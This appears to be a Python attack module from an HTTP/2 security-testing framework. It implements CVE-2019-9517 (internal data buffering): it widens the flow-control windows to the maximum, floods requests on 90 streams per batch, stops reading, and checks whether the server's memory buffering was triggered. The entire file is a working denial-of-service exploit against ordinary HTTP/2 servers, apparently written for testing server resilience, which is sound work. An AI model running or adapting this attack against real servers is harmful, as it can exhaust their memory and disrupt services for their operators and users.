"""Internal data buffering (CVE-2019-9517): a peer that opens the HTTP/2 flow-control windows as wide as they go and
then stops reading, so the server may send answers HTTP/2 no longer holds back while TCP does: a server that
queues them in memory past the socket's buffers grows with every request (RFC 9113 section 10.5: an endpoint
bounds what it buffers; section 5.2: flow control is the receiver's, and here it says "send everything").
The answers are the contract's own (GET /json, about 27 bytes each, many streams) with no header trick: what piles
up is answers the server produced and could not write. The probe exercised the path when the server stopped
reading or the attacker's writes blocked (the socket full in both directions)."""
from hyperframe.frame import WindowUpdateFrame

from h2grid.attacks.base import Attack
from h2grid.attacks.hpackraw import request

INITIAL_WINDOW_SIZE = 0x4
MAX_WINDOW = 2**31 - 1
STREAMS = 90  # per batch: under every server's MAX_CONCURRENT_STREAMS once the earlier ones are answered


def opening(conn) -> bytes:
    return WindowUpdateFrame(0, window_increment=MAX_WINDOW - 65_535).serialize()


def batch(conn) -> bytes:
    block = request(conn, "GET", "/json")
    return b"".join(conn.headers(conn.stream_id(), block) for _ in range(STREAMS))


def exercised(sent: dict) -> str:
    blocked = sum(n for text, n in sent["endings"].items() if "stopped reading" in text)
    return "" if blocked or sent["most_on_one"] >= 4 << 20 else (
        "the attacker's writes never blocked and no connection took 4 MiB of requests: the answers never filled the socket")


ATTACK = Attack(
    key="data-buffering", title="Internal data buffering", cve="CVE-2019-9517", rfc="RFC 9113 sections 5.2 and 10.5",
    sends=f"windows at 2^31-1, then GET /json on {STREAMS} streams per write, never reading the answers",
    opening=opening, batch=batch, settings={INITIAL_WINDOW_SIZE: MAX_WINDOW}, reads=False, exercised=exercised,
)
